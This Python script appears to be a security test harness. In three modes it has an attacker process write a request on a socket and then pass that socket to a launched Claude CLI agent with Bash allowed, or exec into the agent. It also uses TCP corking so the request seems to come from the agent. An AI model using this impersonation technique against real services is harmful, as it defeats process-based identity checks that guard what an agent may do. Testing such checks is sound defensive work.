"""Gives the genuine agent a connection that is the attacker's: ``own_socket.py holders|dead-parent|exec tcp|unix``.

holders: the attacker writes while the agent, its child, holds the connection too.
dead-parent: the attacker writes and is dead; only the agent, its child, holds the connection.
exec: the attacker writes, and turns into the agent by exec.
"""

import os
import socket
import subprocess
import sys
import time

import attacker


def main(how: str, way: str) -> None:
    attacker.ran(how)
    if how == "holders":
        connection = attacker.dial(way)
        with start_agent(connection.fileno()) as agent:
            attacker.wait_for_agent(agent.pid)
            connection.sendall(attacker.request())
            attacker.read_answer(connection, how)
            agent.wait()
        return
    pid, fd = from_child(write_and_die if how == "dead-parent" else write_and_become, way)
    attacker.wait_for_agent(pid)
    time.sleep(1)  # whoever looks at the connection now finds one holder, the agent
    answer = attacker.stolen_socket(pid, fd)
    attacker.read_answer(answer, how) if answer else attacker.note("the connection is gone")
    while attacker.is_running(pid, attacker.AGENT):
        time.sleep(0.05)


def from_child(work, way: str) -> tuple[int, int]:
    """Return the pid of the agent that a child becomes or starts, and its descriptor of the connection."""
    reading, writing = os.pipe()
    if os.fork() == 0:
        os.close(reading)
        connection = attacker.dial(way)
        os.set_inheritable(connection.fileno(), True)
        work(connection, writing)
    os.close(writing)
    with os.fdopen(reading) as told:
        pid, fd = told.readline().split()
    return int(pid), int(fd)


def write_and_die(connection: socket.socket, told: int) -> None:
    agent = start_agent(connection.fileno())
    attacker.wait_for_agent(agent.pid)
    connection.sendall(attacker.request())
    os.write(told, f"{agent.pid} {connection.fileno()}\n".encode())
    os._exit(0)


def write_and_become(connection: socket.socket, told: int) -> None:
    # MSG_MORE: the kernel keeps it back for 200 ms (tcp(7), TCP_CORK), so that it comes from the agent
    connection.send(attacker.request(), socket.MSG_MORE if connection.family == socket.AF_INET else 0)
    os.write(told, f"{os.getpid()} {connection.fileno()}\n".encode())
    os.execv(attacker.AGENT, ["claude", "-p", "work", "--allowedTools", "Bash"])


def start_agent(fd: int) -> subprocess.Popen:
    command = [attacker.AGENT, "-p", "work", "--allowedTools", "Bash"]
    return subprocess.Popen(command, pass_fds=[fd], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)


main(*sys.argv[1:])
